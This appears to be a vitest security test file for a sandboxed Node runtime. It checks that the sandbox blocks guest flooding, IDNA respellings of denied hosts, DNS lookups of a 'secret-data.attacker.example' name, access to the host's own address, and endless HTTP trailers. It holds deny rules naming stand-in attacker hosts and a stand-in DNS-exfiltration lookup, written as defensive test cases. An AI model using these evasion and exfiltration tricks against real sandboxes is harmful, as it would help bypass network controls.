// The attack review of issue 10's networking: each test failed before its
// fix. A guest flooding a host reader that does not read, other spellings
// and search domains of denied names, DNS lookups of names no rule could
// allow, this machine's own interface address, endless HTTP trailers, and a
// streamed response that stalled.
import http from 'node:http'
import { networkInterfaces } from 'node:os'
import { describe, expect, it } from 'vitest'
import { NodeRuntime } from '../../index.js'
import { withRuntime } from '../helpers.js'


describe('host connections to guest servers', () => {
  it('a host reader that does not read holds the guest writer back (rt.fetch)', async () => {
    await withRuntime({ limits: { wallTimeMs: 20_000 } }, async (rt) => {
      const running = rt.exec(`
        const chunk = Buffer.alloc(64 * 1024, 1);
        let written = 0;
        const s = require('net').createServer((c) => {
          c.write('HTTP/1.1 200 OK\\r\\nContent-Length: 1000000000\\r\\n\\r\\n');
          const pump = () => { while (c.write(chunk)) written += chunk.length; written += chunk.length; };
          c.on('drain', pump);
          pump();
          setTimeout(() => { console.log(written); process.exit(0); }, 1500);
        }).listen(3000);`)
      let res: Response | undefined
      for (let i = 0; i < 100 && res === undefined; i++) {
        res = await rt.fetch('http://localhost:3000/').catch(async () => {
          await new Promise((r) => setTimeout(r, 20))
          return undefined
        })
      }
      // The body is never read.
      expect(res!.status).toBe(200)
      const r = await running
      // A few windows and buffers, not everything the guest could make.
      expect(Number(r.stdout)).toBeLessThan(8 * 1024 * 1024)
    })
  })
})

describe('names a rule denies', () => {
  it('are denied in every spelling IDNA reads as the same name', async () => {
    await withRuntime({ permissions: { network: { allow: ['*'], deny: ['evil.example', '*.attacker.example'] } } }, async (rt) => {
      const r = await rt.run<any>(`
        const names = ['evil.example', 'EVIL.example.', 'evil.example\\u3002', 'evil.example\\uff0e', 'x.attacker.example\\uff61'];
        Promise.all(names.map((n) => new Promise((res) => require('dns').lookup(n, (e) => res(e && e.code)))))
          .then(__return);`)
      expect(r.value).toEqual(['EACCES', 'EACCES', 'EACCES', 'EACCES', 'EACCES'])
    })
  })

  it('names no allow entry could match are refused before any lookup', async () => {
    await withRuntime({ permissions: { network: { allow: ['api.example.com:443'] } } }, async (rt) => {
      const r = await rt.run<any>(`
        const dns = require('dns');
        dns.lookup('secret-data.attacker.example', (e1) => {
          require('net').connect(80, 'api.example.com').on('error', (e2) => __return([e1.code, e2.code]));
        });`)
      expect(r.value).toEqual(['EACCES', 'EACCES'])
    })
  })
})

describe("this machine's own address", () => {
  it('is refused under "allow" like the loopback', async () => {
    const mine = Object.values(networkInterfaces())
      .flat()
      .filter((i) => i && !i.internal && i.family === 'IPv4')
      .map((i) => i!.address)
    expect(mine.length).toBeGreaterThan(0)
    let hits = 0
    const server = http.createServer((req, res) => res.end('host')).listen(0, '0.0.0.0')
    server.on('request', () => hits++)
    await new Promise((r) => server.on('listening', r))
    const port = (server.address() as any).port
    try {
      await withRuntime({ permissions: { network: 'allow' } }, async (rt) => {
        const r = await rt.run<any>(`
          fetch('http://${mine[0]}:${port}/').then(() => __return('reached'), (e) => __return(e.cause && e.cause.code))`)
        expect(r.value).toBe('EACCES')
      })
      expect(hits).toBe(0)
    } finally {
      server.close()
    }
  })
})

describe('node:http limits', () => {
  it('endless trailers fail with HPE_HEADER_OVERFLOW, not the memory limit', async () => {
    await withRuntime({ limits: { memoryMb: 64, wallTimeMs: 20_000 } }, async (rt) => {
      const r = await rt.run<any>(`
        const net = require('net');
        const s = net.createServer((c) => {
          c.write('HTTP/1.1 200 OK\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\nx\\r\\n0\\r\\n');
          const line = Buffer.from('X-T: ' + 'y'.repeat(1000) + '\\r\\n');
          const pump = () => { while (!c.destroyed && c.write(line)); };
          c.on('drain', pump);
          c.on('error', () => {});
          pump();
        }).listen(0, () => {
          require('http').get({ port: s.address().port, host: '127.0.0.1' }, (res) => {
            res.on('data', () => {});
          }).on('error', (e) => { s.close(); __return(e.code); });
        });`)
      expect(r.value).toBe('HPE_HEADER_OVERFLOW')
    })
  })
})
